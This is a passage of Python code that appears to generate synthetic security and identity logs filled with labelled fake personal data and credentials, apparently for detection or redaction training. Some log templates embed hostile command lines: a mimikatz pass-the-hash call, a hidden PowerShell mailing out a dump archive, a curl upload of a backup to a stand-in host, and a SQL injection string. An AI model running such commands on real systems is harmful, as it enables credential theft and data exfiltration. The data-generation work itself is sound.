                       self.alnum(40, string.ascii_letters + string.digits)])

    def ntlm(self):
        return self.hexs(32)

    def otp_secret(self):
        return self.alnum(self.c([16, 32]), "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")

    def krb(self, user):
        return f"$krb5tgs$23$*{user}$CORP.LOCAL$MSSQLSvc/sql01.corp.local:1433*${self.hexs(32)}${self.hexs(96)}"

    # -- decoys ------------------------------------------------------------
    def md5(self):
        return self.hexs(32)

    def sha1(self):
        return self.hexs(40)

    def sha256(self):
        return self.hexs(64)

    def uuid(self):
        h = self.hexs(32)
        return "{}-{}-4{}-{}-{}".format(h[:8], h[8:12], h[13:16], "a" + h[17:20], h[20:])

    def masked_phone(self):
        return self.c(["138****%s", "139****%s", "186****%s", "+44 7*** ***%s"]) % self.digits(4 if self.r.random() < 0.8 else 3)

    def masked_card(self):
        return self.c(["4111********%s", "6222 **** **** %s", "**** **** **** %s", "5424********%s"]) % self.digits(4)

    def amount(self):
        return "%d.%02d" % (self.r.randint(1, 4999), self.r.randint(0, 99))

    def flight(self):
        return self.c(["CA", "MU", "CZ", "HU", "BA", "LH", "AF", "SQ", "CX", "EK", "QF", "NH"]) + str(self.r.randint(100, 9899))

    def seat(self):
        return "%d%s" % (self.r.randint(1, 62), self.c("ABCDEFHJK"))

    def pnr(self):
        return self.alnum(6, "ABCDEFGHJKLMNPQRSTUVWXYZ23456789")


# ---------------------------------------------------------------------------
# templates: security and identity
# ---------------------------------------------------------------------------
def _suri_ts(g):
    return g.dt().strftime("%Y-%m-%dT%H:%M:%S.%f") + "+0000"


def _t_suricata_alert(g, L):
    sid, msg, cat = g.c(_SURI_SIGS)
    src = g.ip_user(v6=0.2, private=0.05)
    dst = g.ip_server()
    L.f('{"timestamp":"«0»","flow_id":«1»,"in_iface":"«2»","event_type":"alert","src_ip":"«3»","src_port":«4»,'
        '"dest_ip":"«5»","dest_port":«6»,"proto":"TCP","community_id":"1:«7»=",',
        (_suri_ts(g), "timestamp"), str(g.r.randint(10 ** 14, 10 ** 16)), g.c(["eth0", "ens192", "bond0"]),
        (src, "IP_ADDRESS"), str(g.r.randint(1025, 65535)), (dst, "server_ip"),
        g.c(["80", "443", "22", "3306", "8080"]), g.alnum(27))
    L.f('"alert":{"action":"«0»","gid":1,"signature_id":«1»,"rev":«2»,"signature":"«3»","category":"«4»","severity":«5»}',
        g.c(["allowed", "blocked"]), (str(sid), "signature_id"), str(g.r.randint(1, 12)), msg, cat, str(g.r.randint(1, 3)))
    if g.r.random() < 0.5:
        em, pw = g.email(), g.password()
        L.f(',"http":{"hostname":"«0»","url":"/wp-login.php?log=«1»&pwd=«2»","http_user_agent":"«3»",'
            '"http_method":"POST","protocol":"HTTP/1.1","status":«4»,"length":«5»}',
            g.c(["blog.example.org", "portal.contoso.com", "shop.fabrikam.co.uk"]),
            (g.pct(em), "EMAIL_ADDRESS"), (g.pct(pw), "CREDENTIAL"), g.c(_UAS), g.c(["200", "302", "403"]),
            str(g.r.randint(100, 9000)))
    L.f(',"app_proto":"«0»","flow":{"pkts_toserver":«1»,"pkts_toclient":«2»,"bytes_toserver":«3»,"bytes_toclient":«4»,"start":"«5»"}}',
        g.c(["http", "tls", "ssh", "failed"]), str(g.r.randint(1, 40)), str(g.r.randint(1, 40)),
        str(g.r.randint(60, 90000)), str(g.r.randint(60, 90000)), _suri_ts(g))


def _t_suricata_http(g, L):
    src = g.ip_user()
    xff = g.ip4()
    name_f, name_l = g.wname()
    em = g.email(name_f, name_l)
    L.f('{"timestamp":"«0»","flow_id":«1»,"event_type":"http","src_ip":"«2»","src_port":«3»,"dest_ip":"«4»","dest_port":80,"proto":"TCP","tx_id":«5»,"http":{',
        (_suri_ts(g), "timestamp"), str(g.r.randint(10 ** 14, 10 ** 16)), (src, "IP_ADDRESS"),
        str(g.r.randint(1025, 65535)), (g.ip_server(), "server_ip"), str(g.r.randint(0, 9)))
    x = g.r.random()
    if x < 0.4:
        L.f('"hostname":"api.northwind-traders.com","url":"/v2/users/lookup?email=«0»&phone=«1»",',
            (g.pct(em), "EMAIL_ADDRESS"), (g.pct(g.phone(style=g.c(["e164", "raw"]))), "PHONE_NUMBER"))
    elif x < 0.7:
        L.f('"hostname":"intranet.contoso.com","url":"/directory/search?q=«0»&dept=finance",',
            (g.pct(name_f + " " + name_l).replace("%20", "+"), "PERSON"))
    else:
        L.f('"hostname":"m.shop.example","url":"/account/reset?token=«0»",', (g.alnum(32), "CREDENTIAL"))
    L.f('"http_user_agent":"«0»","xff":"«1»","http_content_type":"application/json","http_method":"GET","protocol":"HTTP/1.1","status":«2»,"length":«3»}}',
        g.c(_UAS), (xff, "IP_ADDRESS"), g.c(["200", "404", "401"]), str(g.r.randint(0, 5000)))


def _t_suricata_dns(g, L):
    src = g.ip_user(v6=0.25, private=0.4)
    L.f('{"timestamp":"«0»","flow_id":«1»,"in_iface":"eth1","event_type":"dns","src_ip":"«2»","src_port":«3»,"dest_ip":"«4»","dest_port":53,"proto":"UDP",',
        (_suri_ts(g), "timestamp"), str(g.r.randint(10 ** 14, 10 ** 16)), (src, "IP_ADDRESS"),
        str(g.r.randint(1025, 65535)), (g.c(["10.0.0.53", "8.8.8.8", "1.1.1.1", "114.114.114.114"]), "server_ip"))
    if g.r.random() < 0.5:
        L.f('"dns":{"type":"query","id":«0»,"rrname":"«1»","rrtype":"«2»","tx_id":0,"opcode":0}}',
            str(g.r.randint(1, 65535)), g.c(["login.microsoftonline.com", "update.googleapis.com", "api.weixin.qq.com",
                                             "x1a9f.dyn-update.top", "cdn.jsdelivr.net"]), g.c(["A", "AAAA", "TXT"]))
    else:
        L.f('"dns":{"version":2,"type":"answer","id":«0»,"flags":"8180","qr":true,"rd":true,"ra":true,"rrname":"«1»","rrtype":"A","rcode":"NOERROR","answers":[{"rrname":"«1»","rrtype":"A","ttl":«2»,"rdata":"«3»"}]}}',
            str(g.r.randint(1, 65535)), g.c(["portal.contoso.com", "vpn.fabrikam.co.uk", "mail.globex.io"]),
            str(g.r.randint(30, 3600)), (g.ip4(), "server_ip"))


def _t_suricata_tls(g, L):
    f, l = g.wname()
    L.f('{"timestamp":"«0»","flow_id":«1»,"event_type":"tls","src_ip":"«2»","src_port":«3»,"dest_ip":"«4»","dest_port":443,"proto":"TCP",',
        (_suri_ts(g), "timestamp"), str(g.r.randint(10 ** 14, 10 ** 16)), (g.ip_user(), "IP_ADDRESS"),
        str(g.r.randint(1025, 65535)), (g.ip_server(), "server_ip"))
    fp = ":".join(g.hexs(2) for _ in range(20))
    if g.r.random() < 0.6:
        L.f('"tls":{"subject":"C=«0», O=«1», CN=«2», emailAddress=«3»","issuerdn":"C=US, O=Contoso, CN=Contoso Issuing CA 02",',
            g.c(["GB", "DE", "US", "NZ", "SE"]), g.c(["Contoso Ltd", "Fabrikam", "Globex"]),
            (f + " " + l, "PERSON"), (g.email(f, l), "EMAIL_ADDRESS"))
    else:
        L.f('"tls":{"subject":"CN=*.contoso.com","issuerdn":"C=US, O=Let\'s Encrypt, CN=R11",')
    L.f('"serial":"«0»","fingerprint":"«1»","sni":"«2»","version":"«3»","notbefore":"2026-01-02T00:00:00","notafter":"2027-01-02T23:59:59","ja3":{"hash":"«4»"},"ja3s":{"hash":"«5»"}}}',
        ":".join(g.hexs(2).upper() for _ in range(9)), (fp, "hash"),
        g.c(["mail.contoso.com", "sso.fabrikam.co.uk", "vpn.globex.io"]), (g.c(["TLS 1.2", "TLS 1.3"]), "version"),
        (g.md5(), "hash"), g.md5())


def _t_snort(g, L):
    sid, msg, cat = g.c(_SURI_SIGS)
    d = g.dt()
    src = g.ip_user(v6=0.1, private=0.05)
    srcp = src if ":" not in src else src
    L.f("«0»  [**] [«1»] «2» [**] [Classification: «3»] [Priority: «4»] {«5»} ",
        (d.strftime("%m/%d-%H:%M:%S.%f"), "timestamp"), ("1:%d:%d" % (sid, g.r.randint(1, 9)), "signature_id"),
        msg, cat, str(g.r.randint(1, 3)), g.c(["TCP", "UDP"]))
    if ":" in src:
        L.f("«0» -> «1»", (srcp, "IP_ADDRESS"), (g.c(["2a02:c7f:1a2b::10", "2606:4700:10::6816:1"]), "server_ip"))
    else:
        L.f("«0»:«1» -> «2»:«3»", (src, "IP_ADDRESS"), str(g.r.randint(1025, 65535)), (g.ip_server(), "server_ip"),
            g.c(["22", "80", "443", "3389", "5060"]))


def _t_modsec(g, L):
    em, pw = g.email(), g.password()
    cli = g.ip_user(v6=0.1, private=0.0)
    d = g.dt()
    L.f('{"transaction":{"client_ip":"«0»","time_stamp":"«1»","server_id":"«2»","client_port":«3»,"host_ip":"«4»","host_port":443,"unique_id":"«5»",',
        (cli, "IP_ADDRESS"), d.strftime("%a %b %d %H:%M:%S %Y"), (g.sha1(), "hash"), str(g.r.randint(1025, 65535)),
        (g.ip_server(), "server_ip"), str(g.r.randint(10 ** 17, 10 ** 18)))
    body = "email=«0»&password=«1»&remember=1"
    L.f('"request":{"method":"POST","http_version":1.1,"uri":"/account/login","body":"' + body + '","headers":{"Host":"shop.fabrikam.co.uk","User-Agent":"«2»","Content-Type":"application/x-www-form-urlencoded","Cookie":"PHPSESSID=«3»; lang=en"}},',
        (g.pct(em), "EMAIL_ADDRESS"), (g.pct(pw), "CREDENTIAL"), g.c(_UAS), (g.cookie(), "CREDENTIAL"))
    rid = g.c(["942100", "942190", "941100", "930120", "949110"])
    L.f('"response":{"http_code":403,"headers":{"Server":"nginx","Content-Type":"text/html"}},"producer":{"modsecurity":"ModSecurity v3.0.12 (Linux)","connector":"ModSecurity-nginx v1.0.3","secrules_engine":"Enabled","components":["OWASP_CRS/«0»"]},',
        ("4.0.0", "version"))
    L.f('"messages":[{"message":"SQL Injection Attack Detected via libinjection","details":{"match":"detected SQLi using libinjection.","reference":"v10,21","ruleId":"«0»","file":"/etc/nginx/modsec/coreruleset/rules/REQUEST-942-APPLICATION-ATTACK-SQLI.conf","lineNumber":"46","data":"Matched Data: s&sos found within ARGS:email: «1»\' OR 1=1--","severity":"2","ver":"OWASP_CRS/4.0.0","rev":"","tags":["application-multi","language-multi","platform-multi","attack-sqli"],"maturity":"0","accuracy":"0"}}]}}',
        (rid, "rule_id"), (em, "EMAIL_ADDRESS"))


def _t_edr(g, L):
    f, l = g.wname()
    upn = g.email(f, l).split("@")[0] + "@" + g.c(_WORK_DOMAINS)
    d = g.dt()
    L.f('{"metadata":{"customerIDString":"«0»","offset":«1»,"eventType":"DetectionSummaryEvent","eventCreationTime":«2»,"version":"1.0"},"event":{"ProcessStartTime":«3»,"ProcessEndTime":0,"ProcessId":«4»,"ParentProcessId":«5»,"ComputerName":"«6»","UserName":"«7»","DetectName":"«8»",',
        g.hexs(32), str(g.r.randint(10 ** 5, 10 ** 7)), (str(int(d.timestamp() * 1000)), "timestamp"),
        str(int(d.timestamp())), (str(g.r.randint(10 ** 11, 10 ** 12)), "process_id"), str(g.r.randint(10 ** 11, 10 ** 12)),
        (g.ws(), "hostname"), (upn, "EMAIL_ADDRESS"), g.c(["CredentialTheftAttempt", "MaliciousDocument", "SuspiciousScriptExecution"]))
    x = g.r.random()
    if x < 0.35:
        cmd = 'net use \\\\\\\\fs01\\\\finance /user:CORP\\\\svc_backup «0»'
        args = ((g.password(), "CREDENTIAL"),)
    elif x < 0.7:
        cmd = 'curl.exe -s -H \\"Authorization: Bearer «0»\\" https://api.globex.io/v1/export'
        args = ((g.jwt(), "CREDENTIAL"),)
    else:
        cmd = 'powershell.exe -nop -w hidden -c \\"Send-MailMessage -To «0» -Attachments C:\\\\Users\\\\Public\\\\dump.zip\\"'
        args = ((g.email(), "EMAIL_ADDRESS"),)
    L.f('"CommandLine":"' + cmd + '",', *args)
    L.f('"FileName":"«0»","FilePath":"\\\\Device\\\\HarddiskVolume3\\\\Windows\\\\System32","SHA256String":"«1»","MD5String":"«2»","LocalIP":"«3»","MachineDomain":"CORP","Tactic":"«4»","Technique":"«5»","Severity":«6»,"SeverityName":"High","FalconHostLink":"https://falcon.crowdstrike.com/activity/detections/detail/«7»"}}',
        g.c(["cmd.exe", "powershell.exe", "curl.exe", "rundll32.exe"]), (g.sha256(), "hash"), (g.md5(), "hash"),
        (g.ip_private(), "IP_ADDRESS"), g.c(["Credential Access", "Exfiltration", "Execution"]),
        g.c(["OS Credential Dumping", "Exfiltration Over Web Service", "Command and Scripting Interpreter"]),
        str(g.r.randint(3, 5)), g.hexs(32))


def _t_win4624(g, L):
    d = g.dt()
    f, l = g.wname()
    upn = g.email(f, l).split("@")[0] + "@" + g.c(_WORK_DOMAINS)
    L.f("«0» «1» MSWinEventLog\t1\tSecurity\t«2»\t«3»\t4624\tMicrosoft-Windows-Security-Auditing\tN/A\tN/A\tSuccess Audit\t«1»\tLogon\t\t"
        "An account was successfully logged on.    Subject:   Security ID:  S-1-5-18   Account Name:  «4»$   Account Domain:  CORP   Logon ID:  0x3E7    "
        "Logon Information:   Logon Type:  «5»   Restricted Admin Mode: -   Virtual Account:  No   Elevated Token:  Yes    Impersonation Level:  Impersonation    "
        "New Logon:   Security ID:  S-1-12-1-«6»   Account Name:  «7»   Account Domain:  AzureAD   Logon ID:  0x«8»   Linked Logon ID:  0x0   Network Account Name: -   Network Account Domain: -   Logon GUID:  {00000000-0000-0000-0000-000000000000}    "
        "Process Information:   Process ID:  0x«9»   Process Name:  C:\\Windows\\System32\\svchost.exe    "
        "Network Information:   Workstation Name: «10»   Source Network Address: «11»   Source Port:  «12»    "
        "Detailed Authentication Information:   Logon Process:  User32    Authentication Package: Negotiate",
        d.strftime("%b %d %H:%M:%S"), ("DC01.corp.contoso.com", "hostname"), str(g.r.randint(10 ** 6, 10 ** 8)),
        d.strftime("%a %b %d %H:%M:%S %Y"), "DC01", g.c(["2", "3", "10", "11"]), g.digits(10),
        (upn, "EMAIL_ADDRESS"), g.hexs(6).upper(), g.hexs(3), (g.ws(), "hostname"), (g.ip_user(private=0.5), "IP_ADDRESS"),
        (str(g.r.randint(1025, 65535)), "port"))


def _t_win4625(g, L):
    d = g.dt()
    f, l = g.wname()
    upn = g.email(f, l).split("@")[0] + "@" + g.c(_WORK_DOMAINS)
    L.f("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-a5ba-3e3b0328c30d}'/>"
        "<EventID>«0»</EventID><Version>0</Version><Level>0</Level><Task>12544</Task><Opcode>0</Opcode><Keywords>0x8010000000000000</Keywords>"
        "<TimeCreated SystemTime='«1»'/><EventRecordID>«2»</EventRecordID><Correlation ActivityID='{«3»}'/><Execution ProcessID='«4»' ThreadID='«5»'/>"
        "<Channel>Security</Channel><Computer>«6»</Computer><Security/></System><EventData>"
        "<Data Name='SubjectUserSid'>S-1-0-0</Data><Data Name='SubjectUserName'>-</Data><Data Name='SubjectDomainName'>-</Data><Data Name='SubjectLogonId'>0x0</Data>"
        "<Data Name='TargetUserSid'>S-1-0-0</Data><Data Name='TargetUserName'>«7»</Data><Data Name='TargetDomainName'></Data>"
        "<Data Name='Status'>0xc000006d</Data><Data Name='FailureReason'>%%2313</Data><Data Name='SubStatus'>0xc000006a</Data>"
        "<Data Name='LogonType'>3</Data><Data Name='LogonProcessName'>NtLmSsp </Data><Data Name='AuthenticationPackageName'>NTLM</Data>"
        "<Data Name='WorkstationName'>«8»</Data><Data Name='TransmittedServices'>-</Data><Data Name='LmPackageName'>-</Data><Data Name='KeyLength'>0</Data>"
        "<Data Name='ProcessId'>0x0</Data><Data Name='ProcessName'>-</Data><Data Name='IpAddress'>«9»</Data><Data Name='IpPort'>«10»</Data></EventData></Event>",
        ("4625", "event_id"), (d.strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z", "timestamp"), str(g.r.randint(10 ** 6, 10 ** 8)),
        g.uuid().upper(), str(g.r.randint(500, 900)), str(g.r.randint(1000, 9000)), ("EXCH01.corp.contoso.com", "hostname"),
        (upn, "EMAIL_ADDRESS"), (g.ws(), "hostname"), (g.ip_user(v6=0.1, private=0.2), "IP_ADDRESS"),
        (str(g.r.randint(1025, 65535)), "port"))


def _t_win4740(g, L):
    d = g.dt()
    f, l = g.wname()
    emp = "a%06d" % g.r.randint(1, 999999)
    L.f("«0» EventCode=4740 LogName=Security SourceName=Microsoft Windows security auditing. Type=Information ComputerName=DC02.corp.contoso.com "
        "Message=A user account was locked out. Subject: Security ID: S-1-5-18 Account Name: DC02$ Account Domain: CORP Logon ID: 0x3E7 "
        "Account That Was Locked Out: Security ID: CORP\\«1» Account Name: «1» Additional Information: Caller Computer Name: «2» ",
        (d.strftime("%m/%d/%Y %I:%M:%S %p"), "timestamp"), (emp, "employee_id"), (g.ws(), "hostname"))
    if g.r.random() < 0.5:
        L.f('| identity_lookup displayName="«0», «1»" mail="«2»" telephoneNumber="«3»" department="«4»"',
            (l, "PERSON"), (f, "PERSON"), (g.email(f, l), "EMAIL_ADDRESS"), (g.phone(style=g.c(["intl", "e164"])), "PHONE_NUMBER"),
            g.c(["Finance", "HR", "Engineering", "Sales"]))
    else:
        L.f('| identity_lookup displayName="«0»" mail="«1»" manager="«2»"',
            (f + " " + l, "PERSON"), (g.email(f, l), "EMAIL_ADDRESS"), (g.wfull(), "PERSON"))


def _t_sysmon(g, L):
    d = g.dt()
    x = g.r.random()
    if x < 0.4:
        cmd, args = "cmd.exe /c net use Z: \\\\fs01\\home /user:CORP\\a104522 «0» /persistent:no", ((g.password(), "CREDENTIAL"),)
    elif x < 0.7:
        e = g.email()
        cmd, args = 'curl.exe -u «0»:«1» https://webdav.globex.io/upload -T backup.7z', ((e, "EMAIL_ADDRESS"), (g.password(), "CREDENTIAL"))
    else:
        cmd, args = 'mimikatz.exe "sekurlsa::pth /user:svc_sql /domain:corp.local /ntlm:«0»" exit', ((g.ntlm(), "CREDENTIAL"),)
    L.f("«0» «1» Microsoft-Windows-Sysmon[«2»]: Process Create: RuleName: technique_id=T1059,technique_name=Command-Line Interface UtcTime: «3» ProcessGuid: {«4»} ProcessId: «5» Image: C:\\Windows\\System32\\cmd.exe FileVersion: «6» Description: Windows Command Processor Product: Microsoft® Windows® Operating System Company: Microsoft Corporation OriginalFileName: Cmd.Exe CommandLine: ",
        d.strftime("%b %d %H:%M:%S"), (g.ws(), "hostname"), str(g.r.randint(1000, 9000)), (d.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3], "timestamp"),
        g.uuid().upper(), (str(g.r.randint(1000, 30000)), "process_id"), ("10.0.19041.746 (WinBuild.160101.0800)", "version"))
    L.f(cmd, *args)
    L.f(" CurrentDirectory: C:\\Windows\\system32\\ User: CORP\\a104522 LogonGuid: {«0»} LogonId: 0x«1» TerminalSessionId: 1 IntegrityLevel: High Hashes: SHA1=«2»,MD5=«3»,SHA256=«4»,IMPHASH=«5» ParentProcessGuid: {«6»} ParentProcessId: «7» ParentImage: C:\\Windows\\explorer.exe",
        g.uuid().upper(), g.hexs(6), (g.sha1().upper(), "hash"), (g.md5().upper(), "hash"), (g.sha256().upper(), "hash"),
        g.md5().upper(), g.uuid().upper(), str(g.r.randint(1000, 30000)))


def _t_auditd(g, L):
    d = g.dt()
    ts = "%d.%03d:%d" % (int(d.timestamp()), g.r.randint(0, 999), g.r.randint(100, 99999))
    addr = g.ip_user(v6=0.2, private=0.2)
    x = g.r.random()
    if x < 0.4:
        L.f("type=USER_LOGIN msg=audit(«0»): pid=«1» uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login acct=\"«2»\" exe=\"/usr/sbin/sshd\" hostname=? addr=«3» terminal=ssh res=failed'",
            (ts, "timestamp"), str(g.r.randint(1000, 90000)), (g.email(), "EMAIL_ADDRESS"), (addr, "IP_ADDRESS"))
    elif x < 0.7:
        L.f("type=USER_AUTH msg=audit(«0»): pid=«1» uid=0 auid=«2» ses=«3» subj=unconfined msg='op=PAM:authentication grantors=pam_sss acct=\"«4»\" exe=\"/usr/sbin/sshd\" hostname=«5» addr=«5» terminal=ssh res=success'UID=\"root\" AUID=\"«4»\"",
            (ts, "timestamp"), str(g.r.randint(1000, 90000)), str(g.r.randint(1000, 60000)), str(g.r.randint(1, 900)),
            (g.email(), "EMAIL_ADDRESS"), (addr, "IP_ADDRESS"))
    else:
        L.f("type=USER_LOGIN msg=audit(«0»): pid=«1» uid=0 auid=1001 ses=«2» msg='op=login id=1001 exe=\"/usr/sbin/sshd\" hostname=? addr=«3» terminal=/dev/pts/0 res=success'",
            (ts, "timestamp"), str(g.r.randint(1000, 90000)), str(g.r.randint(1, 900)), (addr, "IP_ADDRESS"))
        L.f(" node=«0»", (g.host(), "hostname"))


def _t_osquery(g, L):
    d = g.dt()
    L.f('{"name":"«0»","hostIdentifier":"«1»","calendarTime":"«2»","unixTime":«3»,"epoch":0,"counter":«4»,"numerics":false,',
        g.c(["pack_incident-response_logged_in_users", "pack_it-compliance_users", "last"]), (g.ws(), "hostname"),
        d.strftime("%a %b %d %H:%M:%S %Y UTC"), (str(int(d.timestamp())), "timestamp"), str(g.r.randint(0, 500)))
    if g.r.random() < 0.5:
        L.f('"decorations":{"host_uuid":"«0»","username":"e«1»"},"columns":{"host":"«2»","pid":"«3»","time":"«4»","tty":"pts/«5»","type":"user","user":"e«1»"},"action":"added"}',
            g.uuid().upper(), g.digits(6), (g.ip_user(private=0.3), "IP_ADDRESS"), (str(g.r.randint(300, 60000)), "process_id"),
            str(int(d.timestamp()) - 40), str(g.r.randint(0, 5)))
    else:
        f, l = g.wname()
        L.f('"decorations":{"host_uuid":"«0»"},"columns":{"description":"«1»","directory":"/home/e«2»","gid":"1000","shell":"/bin/bash","uid":"«3»","username":"e«2»","uuid":""},"action":"added"}',
            g.uuid().upper(), (f + " " + l, "PERSON"), g.digits(6), str(g.r.randint(1000, 3000)))


def _t_okta(g, L):
    f, l = g.wname()
    em = g.email(f, l)
    ip = g.ip_user(private=0.0, v6=0.15)
    d = g.dt()
    res = g.c([("SUCCESS", "null"), ("FAILURE", '"INVALID_CREDENTIALS"'), ("FAILURE", '"VERIFICATION_ERROR"')])
    L.f('{"actor":{"id":"00u«0»","type":"User","alternateId":"«1»","displayName":"«2»","detailEntry":null},"client":{"userAgent":{"rawUserAgent":"«3»","os":"Windows 10","browser":"CHROME"},"zone":"null","device":"Computer","id":null,"ipAddress":"«4»","geographicalContext":{"city":"«5»","state":null,"country":"«6»","postalCode":null,"geolocation":{"lat":«7»,"lon":«8»}}},',
        g.alnum(17), (em, "EMAIL_ADDRESS"), (f + " " + l, "PERSON"), g.c(_UAS), (ip, "IP_ADDRESS"), (g.c(_PLACES), "place"),
        g.c(["United States", "United Kingdom", "Ireland", "New Zealand"]), f"{g.r.uniform(-40, 60):.4f}", f"{g.r.uniform(-120, 150):.4f}")
    L.f('"authenticationContext":{"authenticationProvider":null,"credentialProvider":null,"credentialType":null,"issuer":null,"interface":null,"authenticationStep":0,"externalSessionId":"«0»"},"displayMessage":"User login to Okta","eventType":"user.session.start","outcome":{"result":"«1»","reason":«2»},"published":"«3»",',
        g.alnum(25), res[0], res[1], (d.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z", "timestamp"))
    L.f('"securityContext":{"asNumber":«0»,"asOrg":"«1»","isp":"«1»","domain":"«2»","isProxy":false},"severity":"INFO","debugContext":{"debugData":{"requestId":"«3»","requestUri":"/api/v1/authn","threatSuspected":"false","url":"/api/v1/authn?"}},"legacyEventType":"core.user_auth.login_failed","transaction":{"type":"WEB","id":"«3»","detail":{}},"uuid":"«4»","version":"0","request":{"ipChain":[{"ip":"«5»","geographicalContext":null,"version":"«6»","source":null}]},"target":null}',
        str(g.r.randint(1000, 60000)), g.c(["comcast", "vodafone", "spark new zealand", "eir"]), g.c(["comcast.net", "vodafone.co.uk", "spark.co.nz"]),
        g.alnum(27), g.uuid(), (ip, "IP_ADDRESS"), "V6" if ":" in ip else "V4")


def _t_azure(g, L):
    f, l = g.wname()
    em = g.email(f, l).split("@")[0] + "@" + g.c(_WORK_DOMAINS)
    ip = g.ip_user(private=0.0, v6=0.2)
    d = g.dt()
    if g.r.random() < 0.55:
        L.f('{"id":"«0»","createdDateTime":"«1»","userDisplayName":"«2»","userPrincipalName":"«3»","userId":"«4»","appId":"00000002-0000-0ff1-ce00-000000000000","appDisplayName":"Office 365 Exchange Online","ipAddress":"«5»","clientAppUsed":"Browser","correlationId":"«6»","conditionalAccessStatus":"«7»","isInteractive":true,"riskDetail":"none","riskLevelAggregated":"none","riskLevelDuringSignIn":"none","riskState":"none",',
            g.uuid(), (d.strftime("%Y-%m-%dT%H:%M:%SZ"), "timestamp"), (f + " " + l, "PERSON"), (em, "EMAIL_ADDRESS"), g.uuid(),
            (ip, "IP_ADDRESS"), g.uuid(), g.c(["success", "failure", "notApplied"]))
        L.f('"status":{"errorCode":«0»,"failureReason":"«1»","additionalDetails":"«2»"},"deviceDetail":{"deviceId":"","displayName":"","operatingSystem":"Windows10","browser":"Edge 124.0.0","isCompliant":false,"isManaged":false,"trustType":""},"location":{"city":"«3»","state":"","countryOrRegion":"«4»","geoCoordinates":{"altitude":null,"latitude":«5»,"longitude":«6»}}}',
            g.c(["50126", "0", "50074", "53003"]), g.c(["Error validating credentials due to invalid username or password.", "Other.", "Strong Authentication is required."]),
            g.c(["MFA requirement satisfied by claim in the token", "The user didn't enter the right credentials. It's expected to see some number of these errors in your logs due to users making mistakes."]),
            (g.c(_PLACES), "place"), g.c(["US", "GB", "IE", "NZ", "SG", "DE"]), f"{g.r.uniform(-40, 60):.5f}", f"{g.r.uniform(-120, 150):.5f}")
    else:
        L.f('{"CreationTime":"«0»","Id":"«1»","Operation":"«2»","OrganizationId":"«3»","RecordType":15,"ResultStatus":"«4»","UserKey":"«5»","UserType":0,"Version":1,"Workload":"AzureActiveDirectory","ClientIP":"«6»","ObjectId":"00000003-0000-0000-c000-000000000000","UserId":"«7»","AzureActiveDirectoryEventType":1,"ExtendedProperties":[{"Name":"ResultStatusDetail","Value":"Success"},{"Name":"UserAgent","Value":"«8»"},{"Name":"RequestType","Value":"OAuth2:Authorize"}],',
            (d.strftime("%Y-%m-%dT%H:%M:%S"), "timestamp"), g.uuid(), g.c(["UserLoggedIn", "UserLoginFailed"]), g.uuid(),
            g.c(["Success", "Failed"]), g.digits(16), (ip, "IP_ADDRESS"), (em, "EMAIL_ADDRESS"), g.c(_UAS))
        L.f('"ModifiedProperties":[],"Actor":[{"ID":"«0»","Type":0},{"ID":"«1»","Type":5}],"ActorContextId":"«2»","ActorIpAddress":"«3»","InterSystemsId":"«4»","IntraSystemId":"«5»","Target":[{"ID":"«6»","Type":0}],"TargetContextId":"«2»","ApplicationId":"«7»","ErrorNumber":"0"}',
            g.uuid(), (em, "EMAIL_ADDRESS"), g.uuid(), (ip, "IP_ADDRESS"), g.uuid(), g.uuid(), g.uuid(), g.uuid())


def _t_ldap(g, L):
    d = g.dt()
    conn = str(g.r.randint(1000, 99999))
    ip = g.ip_private() if g.r.random() < 0.7 else g.ip4()
    x = g.r.random()
    if x < 0.6:
        f, l = g.wname()
        L.f("«0» ldap01 slapd[«1»]: conn=«2» fd=«3» ACCEPT from IP=«4»:«5» (IP=«6»:389) ",
            d.strftime("%b %d %H:%M:%S"), str(g.r.randint(300, 9000)), conn, str(g.r.randint(10, 90)), (ip, "IP_ADDRESS"),
            str(g.r.randint(1025, 65535)), ("0.0.0.0", "loopback"))
        L.f('conn=«0» op=0 BIND dn="cn=«1»,ou=«2»,dc=corp,dc=contoso,dc=com" method=128 conn=«0» op=0 RESULT tag=97 err=«3» text=«4»',
            conn, (f + " " + l, "PERSON"), g.c(["Staff", "People", "Contractors"]), g.c(["0", "49"]), g.c(["", "Invalid credentials"]))
    elif x < 0.85:
        L.f("«0» «1»: The following client performed a SASL (Negotiate/Kerberos/NTLM/Digest) LDAP bind without requesting signing (integrity verification), or performed a simple bind over a clear text (non-SSL/TLS-encrypted) LDAP connection. Client IP address: «2»:«3» Identity the client attempted to authenticate as: «4» Binding Type: 0",
            d.strftime("%Y-%m-%d %H:%M:%S"), ("2889", "event_id"), (ip, "IP_ADDRESS"), str(g.r.randint(1025, 65535)), (g.email(), "EMAIL_ADDRESS"))
    else:
        L.f("«0» app-sync[«1»] DEBUG ldap3: BIND simple user=\"«2»\" password=\"«3»\" server=ldaps://«4»:636 result=invalidCredentials",
            d.strftime("%Y-%m-%dT%H:%M:%S"), str(g.r.randint(300, 9000)), (g.email(), "EMAIL_ADDRESS"), (g.password(), "CREDENTIAL"),
            ("dc01.corp.contoso.com", "hostname"))


def _t_globalprotect(g, L):
    d = g.dt()
    f, l = g.wname()
    em = g.email(f, l)
    L.f("«0» PA-3220 1,«1»,«2»,GLOBALPROTECT,0,2561,«1»,vsys1,gateway-auth,login,«3»,,«4»,«5»,«6»,«7»,0.0.0.0,«8»,0.0.0.0,«9»,«10»,Windows,\"Microsoft Windows 10 Pro , 64-bit\",1,,,\"\",«11»,«12»,0,,0,GP-Gateway-Ext,«13»,",
        d.strftime("%b %d %H:%M:%S"), d.strftime("%Y/%m/%d %H:%M:%S"), ("0132010" + g.digits(5), "serial"), g.c(["SAML", "LDAP", "RADIUS"]),
        (em, "EMAIL_ADDRESS"), g.c(["US", "GB", "SG", "NZ", "IE"]), (g.ws(), "hostname"), (g.ip4(), "IP_ADDRESS"),
        (g.ip_private(), "IP_ADDRESS"), g.digits(20), ("6.2.%d" % g.r.randint(0, 5), "version"),
        g.c(["success", "failure"]), g.c(["", "Authentication failed: Invalid username or password"]), g.digits(19))


def _t_anyconnect(g, L):
    d = g.dt()
    em = g.email()
    ip = g.ip4()
    x = g.r.random()
    if x < 0.5:
